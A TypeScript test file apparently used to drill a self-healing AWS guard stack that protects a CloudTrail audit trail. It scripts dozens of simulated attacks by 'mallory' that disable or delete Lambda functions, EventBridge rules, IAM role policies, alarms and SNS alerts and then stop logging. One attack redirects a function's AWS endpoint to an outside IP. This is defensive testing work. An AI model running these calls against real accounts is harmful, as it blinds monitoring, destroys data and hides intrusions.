import { zipSync } from 'fflate';
import { AUDIT_TRAIL } from '../estate.ts';
import type { Clients } from '../clients.ts';
import type { Attack } from './attack.ts';

const STACK = 'trailkeeper-drill';
const ACCOUNT = '123456789012';

const functions = ['heal', 'watch', 'tell'] as const;
type Function = (typeof functions)[number];
const nameOf = (of: Function) => `${STACK}-${of}`;
const queueUrl = (name: string) => `https://sqs.us-east-1.amazonaws.com/${ACCOUNT}/${STACK}-${name}`;
const TopicArn = `arn:aws:sns:us-east-1:${ACCOUNT}:${STACK}-alerts`;
const SWEEP = `${STACK}-watch-sweep`;

const rulesOf = async ({ events }: Clients): Promise<string[]> => {
  const { Rules = [] } = await events.listRules({ NamePrefix: STACK });
  return Rules.flatMap(({ Name }) => Name ?? []);
};

const variablesOf = async ({ lambda }: Clients, FunctionName: string) =>
  (await lambda.getFunctionConfiguration({ FunctionName })).Environment?.Variables ?? {};

/** What a policy of the stack refuses has changed nothing. */
const isRefused = (error: Error): void => {
  if (error.name !== 'AccessDeniedException') throw error;
};

const roleOf = async ({ lambda }: Clients, of: Function): Promise<string> => {
  const { Role = '' } = await lambda.getFunctionConfiguration({ FunctionName: nameOf(of) });
  return Role.split('/').at(-1) ?? '';
};

/** A blow on the guard, and then one on the trail that it guards. */
const blow = (
  name: string,
  effect: string,
  strike: (mallory: Clients) => Promise<unknown>,
  stays?: Attack['stays'],
): Attack => ({
  name,
  effect,
  calls: ['StopLogging'],
  needsSweep: true,
  strike: async (mallory) => {
    await strike(mallory);
    await mallory.cloudTrail.stopLogging({ Name: AUDIT_TRAIL });
  },
  ...(stays && { stays }),
});

/** Whoever had the key of heal must not get at the role of watch: people put it back. */
const roleStays = (of: Function): Attack['stays'] =>
  of === 'watch' ? { fields: /^role .*-WatchRole-/, told: /not looked at yet/ } : undefined;

/** Nothing leaves the account but by tell: of its end AWS's own alarms tell, which are not run here. */
const gone = (of: Function, fields: RegExp): Attack['stays'] =>
  of === 'tell' ? { fields } : { fields, told: /serverless deploy/ };

const onFunction = (of: Function): Attack[] => {
  const FunctionName = nameOf(of);
  return [
    blow(`${of}-concurrency-0`, `${of} may not run`, ({ lambda }) =>
      lambda.putFunctionConcurrency({ FunctionName, ReservedConcurrentExecutions: 0 }),
    ),
    blow(`${of}-timeout-1`, `${of} ends after 1 s`, ({ lambda }) =>
      lambda.updateFunctionConfiguration({ FunctionName, Timeout: 1 }),
    ),
    blow(`${of}-monitor-mode`, `${of} only looks on`, async (mallory) =>
      mallory.lambda.updateFunctionConfiguration({
        FunctionName,
        Environment: { Variables: { ...(await variablesOf(mallory, FunctionName)), MODE: 'monitor' } },
      }),
    ),
    blow(`${of}-endpoint`, `${of} talks to Mallory instead of AWS`, async (mallory) =>
      mallory.lambda.updateFunctionConfiguration({
        FunctionName,
        Environment: {
          Variables: {
            ...(await variablesOf(mallory, FunctionName)),
            AWS_ENDPOINT_URL: 'https://192.0.2.66',
          },
        },
      }),
    ),
    blow(`${of}-handler`, `${of} runs nothing`, ({ lambda }) =>
      lambda.updateFunctionConfiguration({ FunctionName, Handler: 'nothing.handler' }),
    ),
    blow(
      `${of}-code`,
      `${of} runs Mallory's code`,
      ({ lambda }) =>
        lambda.updateFunctionCode({
          FunctionName,
          ZipFile: zipSync({ 'nothing.js': new TextEncoder().encode('exports.handler = async () => {};') }),
        }),
      gone(of, /^function trailkeeper-drill-\w+\.code/),
    ),
    blow(
      `${of}-deleted`,
      `${of} is gone`,
      ({ lambda }) => lambda.deleteFunction({ FunctionName }),
      gone(of, /^(function|event source) trailkeeper-drill-/),
    ),
    blow(
      `${of}-role-stripped`,
      `${of} may do nothing`,
      async (mallory) => {
        const RoleName = await roleOf(mallory, of);
        const { PolicyNames = [] } = await mallory.iam.listRolePolicies({ RoleName });
        for (const PolicyName of PolicyNames) await mallory.iam.deleteRolePolicy({ RoleName, PolicyName });
      },
      roleStays(of),
    ),
    blow(
      `${of}-role-denied`,
      `${of} is denied all`,
      async (mallory) =>
        mallory.iam.attachRolePolicy({
          RoleName: await roleOf(mallory, of),
          PolicyArn: 'arn:aws:iam::aws:policy/AWSDenyAll',
        }),
      roleStays(of),
    ),
    blow(
      `${of}-boundary`,
      `${of} is bounded to reading`,
      async (mallory) =>
        mallory.iam.putRolePermissionsBoundary({
          RoleName: await roleOf(mallory, of),
          PermissionsBoundary: 'arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole',
        }),
      roleStays(of),
    ),
  ];
};

/** Whoever is subscribed again has to say yes once more; AWS spells what it made anew in its own way. */
const UNCONFIRMED: Attack['stays'] = {
  fields: /^topic trailkeeper-drill-alerts\.(attributes|subscriptions)$/,
  told: /subscription/,
};

/** The known attacks on the guard itself, each followed by one on the trail. All is undone within a sweep of each function. */
export const GUARD_ATTACKS: readonly Attack[] = [
  blow('rule-disabled', 'its first ear is closed', async (mallory) => {
    const [Name] = await rulesOf(mallory);
    await mallory.events.disableRule({ Name });
  }),
  blow('rules-disabled', 'all its ears are closed', async (mallory) => {
    for (const Name of await rulesOf(mallory)) await mallory.events.disableRule({ Name });
  }),
  blow('rule-targets-removed', 'its first ear wakes nobody', async (mallory) => {
    const [Rule] = await rulesOf(mallory);
    const { Targets = [] } = await mallory.events.listTargetsByRule({ Rule });
    await mallory.events.removeTargets({ Rule, Ids: Targets.flatMap(({ Id }) => Id ?? []) });
  }),
  blow('rule-pattern', 'its first ear hears nothing', async (mallory) => {
    const [Name] = await rulesOf(mallory);
    await mallory.events.putRule({ Name, EventPattern: JSON.stringify({ source: ['nothing'] }) });
  }),
  blow('rule-deleted', 'its first ear is cut off', async (mallory) => {
    const [Rule] = await rulesOf(mallory);
    const { Targets = [] } = await mallory.events.listTargetsByRule({ Rule });
    await mallory.events.removeTargets({ Rule, Ids: Targets.flatMap(({ Id }) => Id ?? []) });
    await mallory.events.deleteRule({ Name: Rule });
  }),
  blow('schedule-deleted', 'watch sweeps no more', ({ scheduler }) =>
    scheduler.deleteSchedule({ Name: SWEEP }),
  ),
  blow('schedule-paused', 'watch sweeps no more', async ({ scheduler }) => {
    const { ScheduleExpression, FlexibleTimeWindow, Target } = await scheduler.getSchedule({ Name: SWEEP });
    await scheduler.updateSchedule({
      Name: SWEEP,
      ScheduleExpression,
      FlexibleTimeWindow,
      Target,
      State: 'DISABLED',
    });
  }),
  blow('permissions-removed', 'EventBridge may not wake heal', async ({ lambda }) => {
    const FunctionName = nameOf('heal');
    const { Policy = '{}' } = await lambda.getPolicy({ FunctionName });
    const { Statement = [] } = JSON.parse(Policy) as { Statement?: { Sid: string }[] };
    for (const { Sid } of Statement) await lambda.removePermission({ FunctionName, StatementId: Sid });
  }),
  ...functions.flatMap(onFunction),
  blow('tell-no-deleting', 'tell is denied to delete what it has read: no mail leaves', async (mallory) =>
    mallory.iam.putRolePolicy({
      RoleName: await roleOf(mallory, 'tell'),
      PolicyName: 'protection',
      PolicyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Deny', Action: 'sqs:DeleteMessage', Resource: '*' }],
      }),
    }),
  ),
  blow(
    'watch-policy-version',
    'watch is denied all by a policy that it has',
    ({ iam }) =>
      iam.createPolicyVersion({
        PolicyArn: `arn:aws:iam::${ACCOUNT}:policy/${STACK}-watch-guard-us-east-1`,
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }],
        }),
        SetAsDefault: true,
      }),
    { fields: /^(managed policy trailkeeper-drill-watch-guard|role .*-WatchRole-)/, told: /managed policy/ },
  ),
  blow('queue-deleted', 'nothing would reach tell: its policy refuses', ({ sqs }) =>
    sqs.deleteQueue({ QueueUrl: queueUrl('passes.fifo') }).catch(isRefused),
  ),
  blow('alarms-deleted', 'no alarm is left', async ({ cloudWatch }) => {
    const { MetricAlarms = [] } = await cloudWatch.describeAlarms({ AlarmNamePrefix: STACK });
    await cloudWatch.deleteAlarms({ AlarmNames: MetricAlarms.flatMap(({ AlarmName }) => AlarmName ?? []) });
  }),
  blow('alarms-muted', 'alarms tell nobody', async ({ cloudWatch }) => {
    const { MetricAlarms = [] } = await cloudWatch.describeAlarms({ AlarmNamePrefix: STACK });
    await cloudWatch.disableAlarmActions({
      AlarmNames: MetricAlarms.flatMap(({ AlarmName }) => AlarmName ?? []),
    });
  }),
  blow('topic-deleted', 'alerts go nowhere', ({ sns }) => sns.deleteTopic({ TopicArn }), UNCONFIRMED),
  blow('topic-closed', 'nobody may publish alerts', ({ sns }) =>
    sns.setTopicAttributes({
      TopicArn,
      AttributeName: 'Policy',
      AttributeValue: JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Deny', Principal: '*', Action: 'SNS:Publish', Resource: TopicArn }],
      }),
    }),
  ),
  blow(
    'topic-unsubscribed',
    'nobody hears the alerts',
    async ({ sns }) => {
      const { Subscriptions = [] } = await sns.listSubscriptionsByTopic({ TopicArn });
      for (const { SubscriptionArn } of Subscriptions) await sns.unsubscribe({ SubscriptionArn });
    },
    UNCONFIRMED,
  ),
  blow(
    'topic-filtered',
    'the alerts are filtered away',
    async ({ sns }) => {
      const { Subscriptions = [] } = await sns.listSubscriptionsByTopic({ TopicArn });
      for (const { SubscriptionArn } of Subscriptions)
        await sns.setSubscriptionAttributes({
          SubscriptionArn,
          AttributeName: 'FilterPolicy',
          AttributeValue: JSON.stringify({ severity: ['nothing'] }),
        });
    },
    { fields: /\.subscriptions$/, told: /subscription/ },
  ),
  blow('alert-key-disabled', 'alerts could not be encrypted: its policy refuses', async ({ sns, kms }) => {
    const { Attributes } = await sns.getTopicAttributes({ TopicArn });
    await kms.disableKey({ KeyId: Attributes?.['KmsMasterKeyId'] }).catch(isRefused);
  }),
  blow(
    'ledger-deleted',
    'nobody would know what was told: its policy refuses',
    async ({ dynamodb, lambda }) => {
      const { Environment } = await lambda.getFunctionConfiguration({ FunctionName: nameOf('tell') });
      const TableName = Environment?.Variables?.['LEDGER_TABLE'];
      await dynamodb.updateTable({ TableName, DeletionProtectionEnabled: false }).catch(isRefused);
      await dynamodb.deleteTable({ TableName }).catch(isRefused);
    },
  ),
];
